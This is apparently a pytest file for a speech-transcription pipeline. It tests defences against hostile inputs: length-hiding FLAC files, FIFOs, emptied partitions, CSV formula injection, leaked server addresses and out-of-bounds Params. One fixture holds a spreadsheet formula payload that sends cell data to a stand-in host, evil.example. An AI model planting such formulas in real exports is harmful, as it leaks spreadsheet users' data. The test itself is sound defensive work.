"""Hostile inputs bounded, nothing deleted by accident (issue 28), each reproduction of the issue as a test: a small
compressed file holding hours of audio, a FIFO in the raw tree, a re-run over an emptied partition, a transcript
written as a spreadsheet formula, an internal address in an error, abandoned staging, Params pointing elsewhere."""

from __future__ import annotations

import datetime as dt
import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest
import soundfile as sf

from sensevoice_pipeline.errors import ServingError
from sensevoice_pipeline.jobs import daily
from sensevoice_pipeline.lake import tables
from sensevoice_pipeline.lake.catalog import Lake
from sensevoice_pipeline.lake.storage import LocalRoot, NotARegularFileError
from sensevoice_pipeline.settings import ParamNotAllowedError, Settings, check_run_params
from sensevoice_pipeline.speech.audio import TooLongError, load_16k
from sensevoice_pipeline.ui.page_text import for_viewer

from .support.lake import write_clips

DAY = "2026-11-20"


def svp(*args: str, env: dict | None = None, timeout: float = 240) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "sensevoice_pipeline.ui.cli", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, **(env or {})},
    )


def silent_flac(path: Path, hours: float, length_in_header: bool = True) -> Path:
    """``hours`` of 8 kHz silence as FLAC (a few KB a minute). Without ``length_in_header`` the STREAMINFO's total
    sample count is 0, "unknown", as a streaming encoder writes it: the length is only found by decoding."""
    block = np.zeros(8000 * 600, dtype=np.int16)
    with sf.SoundFile(path, "w", samplerate=8000, channels=1, format="FLAC", subtype="PCM_16") as f:
        for _ in range(int(hours * 6)):
            f.write(block)
    if not length_in_header:
        data = bytearray(path.read_bytes())
        assert data[:4] == b"fLaC"
        fields = int.from_bytes(data[18:26], "big") & ~((1 << 36) - 1)  # total samples: the last 36 bits
        data[18:26] = fields.to_bytes(8, "big")
        path.write_bytes(data)
    return path


# -- bounded inputs ----------------------------------------------------------------------------------------------------


def test_a_long_recording_is_refused_while_it_decodes_whatever_its_header_says(tmp_path):
    stated = silent_flac(tmp_path / "stated.flac", 1.0)
    hidden = silent_flac(tmp_path / "hidden.flac", 1.0, length_in_header=False)
    assert (
        stated.stat().st_size < 200_000 and sf.info(str(hidden)).frames > 2**62
    )  # tiny, and "unknown" length
    with pytest.raises(
        TooLongError,
        match="stated.flac is longer than the longest recording the job takes, 10 min "
        r"\(SVP_MAX_RECORDING_S; its header says 1 h\)",
    ):
        load_16k(stated, False, max_seconds=600)
    with pytest.raises(
        TooLongError, match=r"hidden.flac .* 10 min \(SVP_MAX_RECORDING_S; found while decoding\)"
    ):
        load_16k(hidden, False, max_seconds=600)
    info, (samples,) = load_16k(stated, False, max_seconds=4000)  # under the limit: decoded whole
    assert samples.size == 3600 * 16000 and info.channels == 1


@pytest.mark.timeout(300)
def test_a_day_with_an_endless_file_and_fifos_is_published_with_them_as_failed_rows(tmp_path, fixture_triton):
    """The daily job under SVP_MAX_RECORDING_S=600: a FLAC of an hour whose header hides its length, a FIFO and a
    symlink to one (opening either would wait for a writer for ever) fail with their reasons; the rest of the day
    is published, and the run ends."""
    raw, lake = tmp_path / "raw", tmp_path / "lake"
    clips = write_clips(raw, DAY, 2)
    part = raw / f"date={DAY}"
    silent_flac(part / "endless.flac", 1.0, length_in_header=False)
    os.mkfifo(part / "pipe.wav")
    os.mkfifo(tmp_path / "raw" / "elsewhere.fifo")
    os.symlink(raw / "elsewhere.fifo", part / "linked.wav")
    out = svp(
        "run",
        "--date",
        DAY,
        "--raw",
        str(raw),
        "--lake",
        str(lake),
        "--url",
        fixture_triton.grpc_url,
        "--failure-budget",
        "1",
        env={"SVP_MAX_RECORDING_S": "600"},
    )
    assert out.returncode == 0, out.stderr[-3000:]
    rows = {r["source_path"].split("/", 1)[1]: r for r in Lake(lake).read("recordings", DAY).to_pylist()}
    assert rows["endless.flac"]["error"].endswith(
        "(SVP_MAX_RECORDING_S; found while decoding): not transcribed"
    )
    assert rows["pipe.wav"]["error"] == "not a regular file (a FIFO); refusing to read it"
    assert rows["linked.wav"]["error"] == "not a regular file (a FIFO); refusing to read it"
    assert sorted(name for name, r in rows.items() if r["status"] == "ok") == sorted(
        c.split("/", 1)[1] for c in clips
    )


def test_a_fifo_swapped_in_after_planning_is_refused_without_blocking(tmp_path):
    os.mkfifo(tmp_path / "call.wav")
    done = threading.Event()
    caught: list[Exception] = []

    def read():
        try:
            LocalRoot(tmp_path / "call.wav").fetch(inside=tmp_path)
        except Exception as exc:  # noqa: BLE001 -- looked at below
            caught.append(exc)
        done.set()

    threading.Thread(target=read, daemon=True).start()
    assert done.wait(10), "fetch blocked on a FIFO"
    assert isinstance(caught[0], NotARegularFileError) and "not a regular file (a FIFO)" in str(caught[0])


def test_transcription_tasks_have_an_execution_timeout(local_airflow):
    """A hung batch (a decode that never returns, a server that never answers) is failed and retried."""
    dags = Path(__file__).resolve().parents[1] / "dags"
    script = (
        "from airflow.dag_processing.dagbag import DagBag\n"
        f"bag = DagBag(dag_folder={str(dags)!r})\n"
        "print(bag.dags['sensevoice_daily'].get_task('transcribe').execution_timeout.total_seconds())\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        timeout=120,
        env=local_airflow.env({"SVP_BATCH_TIMEOUT_S": "5400"}),
    )
    assert out.stdout.strip().splitlines()[-1] == "5400.0", out.stderr[-2000:]


# -- no silent shrink --------------------------------------------------------------------------------------------------


@pytest.mark.timeout(300)
def test_a_re_run_never_silently_replaces_a_published_day_with_much_less(tmp_path, fixture_triton):
    """Issue 28's reproduction: the partition now holds only _SUCCESS (a retention job emptied it); the re-run used
    to exit 0 and replace 3 recordings with nothing."""
    settings = Settings(
        raw_root=tmp_path / "raw", lake_root=tmp_path / "lake", triton_url=fixture_triton.grpc_url
    )
    names = write_clips(settings.raw_root, DAY, 3)
    daily.run_date(settings, DAY, show_progress=False)
    before = Lake(settings.lake_root).read("recordings", DAY).to_pylist()
    part = settings.raw_root / f"date={DAY}"
    for name in names:
        (settings.raw_root / name).unlink()
    (part / "_SUCCESS").touch()
    args = (
        "run",
        "--date",
        DAY,
        "--raw",
        str(settings.raw_root),
        "--lake",
        str(settings.lake_root),
        "--url",
        fixture_triton.grpc_url,
    )
    refused = svp(*args)
    assert refused.returncode == 2, refused.stderr[-2000:]
    assert (
        f"{DAY}: the partition holds 0 recordings, the published day 3 (3 utterances); re-running would "
        "replace them with nothing, so nothing was done"
    ) in refused.stderr
    assert "--allow-shrink" in refused.stderr and "Traceback" not in refused.stderr
    assert Lake(settings.lake_root).read("recordings", DAY).to_pylist() == before
    assert daily.leases(settings).holder(DAY) is None
    allowed = svp(*args, "--allow-shrink")
    assert allowed.returncode == 0, allowed.stderr[-2000:]
    assert Lake(settings.lake_root).read("recordings", DAY).num_rows == 0


def test_a_partly_lost_day_is_refused_under_the_shrink_limit(tmp_path):
    settings = Settings(raw_root=tmp_path / "raw", lake_root=tmp_path / "lake")
    write_clips(settings.raw_root, DAY, 1)
    rows = [
        {
            "recording_id": f"r{i}",
            "source_path": f"date={DAY}/{i}.wav",
            "status": "ok",
            "run_id": "old",
            "processed_at": dt.datetime.now(dt.UTC),
            "metadata": [],
        }
        for i in range(3)
    ]
    Lake(settings.lake_root).commit_day(DAY, {"recordings": tables.to_table(rows, tables.RECORDINGS)})
    with pytest.raises(daily.ShrinkRefused, match="holds 1 recordings, the published day 3"):
        daily.plan(settings, DAY, "run")
    daily.plan(settings.with_overrides(shrink_limit=0.3), DAY, "run")  # 1 of 3 is above 0.3 of them


# -- what leaves the system --------------------------------------------------------------------------------------------


def test_csv_exports_neutralise_cells_a_spreadsheet_would_execute(tmp_path):
    from sensevoice_pipeline.ui import cli

    lake, day = tmp_path / "lake", "2026-01-01"
    texts = [
        '=HYPERLINK("http://evil.example/?"&A1,"refund")',
        "+1 555 0100",
        "@SUM(A1:A9)",
        "-2+3",
        "\tpadded",
        "a plain angry sentence",
    ]
    rows = [
        {
            "recording_id": f"r{i}",
            "source_path": f"calls/{i}.wav",
            "channel": 0,
            "segment_index": 0,
            "start_s": 0.0,
            "end_s": 2.0,
            "language": "en",
            "language_hint": "auto",
            "emotion": "angry",
            "event": "Speech",
            "itn": True,
            "text": text,
            "raw_text": f"<|en|><|ANGRY|><|Speech|><|withitn|>{text}",
            "model_name": "sensevoice",
            "model_version": "1",
            "run_id": "r",
            "processed_at": dt.datetime.now(dt.UTC),
        }
        for i, text in enumerate(texts)
    ]
    utterances = tables.to_table(rows, tables.UTTERANCES)
    Lake(lake).commit_day(day, {"utterances": utterances, **tables.rollups(utterances)})
    out = tmp_path / "angry.csv"
    assert cli.main(["query", "angry-calls", "--lake", str(lake), "--csv", str(out)]) == 0
    import csv

    cells = {row["angry_text"] for row in csv.DictReader(out.open())}
    assert cells == {"'" + t if t[0] in "=+-@\t" else t for t in texts}, cells


def test_errors_shown_to_a_viewer_name_no_server_address_or_path():
    """The clip endpoint answers a serving fault with this text, in JSON as in HTML (plugins/sensevoice_plugin.py):
    here, the real message of a Triton that cannot be reached."""
    import asyncio

    from sensevoice_pipeline.serving.server import free_port
    from sensevoice_pipeline.ui import clip as clip_check

    data = Path(__file__).resolve().parents[1] / "export" / "fixture_model" / "clips" / "en_refund_angry.wav"
    url = f"127.0.0.1:{free_port()}"
    with pytest.raises(ServingError) as exc:
        asyncio.run(clip_check.check_clip(data.read_bytes(), "a.wav", "en", True, url=url))
    message = (
        clip_check.message(exc.value) + " (warehouse /srv/lake/warehouse.duckdb; triton:8001; [::1]:8001)"
    )
    shown = for_viewer(message)
    assert (
        url not in shown
        and "127.0.0.1" not in shown
        and "/srv/lake" not in shown
        and "triton:8001" not in shown
    )
    assert shown.startswith("the transcription service failed, not the clip: cannot reach Triton at [server]")
    assert "…/warehouse.duckdb" in shown and "[::1]" not in shown


# -- staging that nobody collects --------------------------------------------------------------------------------------


def test_abandoned_staging_is_removed_after_the_grace_period_local_and_s3(tmp_path):
    from .conftest import create_buckets, moto_s3_server

    with moto_s3_server() as url, pytest.MonkeyPatch.context() as mp:
        for name, value in {
            "AWS_ACCESS_KEY_ID": "k",
            "AWS_SECRET_ACCESS_KEY": "s",
            "AWS_ENDPOINT_URL": url,
            "AWS_REGION": "us-east-1",
        }.items():
            mp.setenv(name, value)
        create_buckets(url, "k", "s", "lakes")
        for root in (tmp_path / "lake", "s3://lakes/lake"):
            settings = Settings.from_env(
                lake_root=str(root), gc_grace_s=2, catalog=str(tmp_path / f"{id(root)}.db")
            )
            old = daily.staging_dir(settings, "2026-11-01", "killed-run")
            (old / "batch-00000.utterances.parquet").write_atomic(b"transcripts of a run that died")
            time.sleep(2.5)  # older than the grace period now
            fresh = daily.staging_dir(settings, "2026-11-02", "running-run")
            (fresh / "batch-00000.utterances.parquet").write_atomic(b"a run still at work")
            daily._drop_stale_staging(settings, dt.timedelta(seconds=settings.gc_grace_s))
            assert not old.list_files(), root
            assert [name for name, *_ in fresh.list_files()] == ["batch-00000.utterances.parquet"], root


# -- Params within what the deployment allows ----------------------------------------------------------------------


def test_run_params_reach_only_what_the_deployment_allows(monkeypatch, tmp_path):
    for name in ("SVP_ALLOWED_ROOTS", "SVP_ALLOWED_CONNECTIONS"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("SVP_RAW_ROOT", "s3://calls/raw")
    monkeypatch.setenv("SVP_LAKE_ROOT", str(tmp_path / "lake"))
    base = Settings.from_env()
    check_run_params(
        base,
        {
            "raw_root": "s3://calls/raw/2026",
            "lake_root": str(tmp_path / "lake"),
            "triton_conn_id": "sensevoice_triton",
            "aws_conn_id": "",
            "model_repository": None,
        },
    )
    for params, message in (
        ({"raw_root": "s3://someone-else/raw"}, "raw_root='s3://someone-else/raw' is outside"),
        ({"raw_root": "s3://calls/rawer"}, "is outside"),
        ({"lake_root": "/etc"}, "lake_root='/etc' is outside what this deployment allows"),
        ({"triton_conn_id": "their_triton"}, "names a Connection this deployment does not allow"),
        ({"aws_conn_id": "admin_aws"}, "SVP_ALLOWED_CONNECTIONS=unset"),
    ):
        with pytest.raises(ParamNotAllowedError, match=message):
            check_run_params(base, params)
    monkeypatch.setenv("SVP_ALLOWED_ROOTS", "s3://backfill/")
    monkeypatch.setenv("SVP_ALLOWED_CONNECTIONS", "aws_backfill")
    check_run_params(
        Settings.from_env(), {"raw_root": "s3://backfill/2025/raw", "aws_conn_id": "aws_backfill"}
    )


@pytest.mark.timeout(300)
def test_the_dags_plan_refuses_params_beyond_the_allow_list(tmp_path, local_airflow):
    params = {"date": DAY, "raw_root": str(tmp_path / "raw"), "lake_root": "s3://not-ours/lake"}
    out = local_airflow._airflow(
        "tasks",
        "test",
        "sensevoice_daily",
        "plan",
        "2026-11-02T00:00:00+00:00",
        "--task-params",
        json.dumps(params),
        timeout=240,
        env={"SVP_ALLOWED_ROOTS": "", "SVP_LAKE_ROOT": str(tmp_path / "lake")},
    )
    text = out.stdout + out.stderr
    assert "the Param raw_root=" in text and "is outside what this deployment allows" in text, text[-3000:]
    assert not (tmp_path / "lake").exists()
